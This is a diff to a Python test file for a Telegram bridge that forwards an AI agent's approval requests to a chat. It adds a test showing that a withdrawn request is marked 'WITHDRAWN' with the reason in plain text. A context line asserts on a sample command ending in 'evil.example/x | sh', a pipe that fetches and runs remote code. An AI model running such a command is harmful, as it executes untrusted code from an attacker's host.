@@ -554,3 +554,24 @@ async def test_a_long_command_reaches_the_chat_as_its_head_and_tail_in_plain_tex
     shown = next(line for line in request["text"].splitlines() if line.startswith("Command: "))
     assert shown.startswith("Command: pytest -k x") and shown.endswith("evil.example/x | sh")
     assert "characters left out" in shown and len(request["text"]) <= 3600
+
+
+async def test_a_withdrawn_request_says_so_on_the_chat(
+    make_api: Any, bot: respx.MockRouter
+) -> None:
+    bridge = TelegramBridge(BOT_TOKEN, CHAT, api_url="https://tg.test", max_retry_after=1)
+    api: Api = await make_api(bridge=bridge, telegram_mode="webhook", telegram_webhook_secret=HOOK)
+    await api.agent("builder")
+    bot.post("/sendMessage").mock(return_value=sent(902))
+    edited = bot.post("/editMessageText").mock(
+        return_value=httpx.Response(200, json={"ok": True, "result": {}})
+    )
+    asked = await api.post(
+        "/v1/approvals", {"title": "Bash: make deploy"}, as_="builder", expect=201
+    )
+    reason = {"reason": "the Claude Code session ended <b>before</b> an answer"}
+    await api.post(f"/v1/approvals/{asked['approval_id']}/withdraw", reason, as_="builder")
+    edit = json.loads(edited.calls.last.request.content)
+    assert edit["message_id"] == 902
+    said = "WITHDRAWN: the Claude Code session ended <b>before</b> an answer"
+    assert said in edit["text"] and "parse_mode" not in edit  # the agent's words, literally
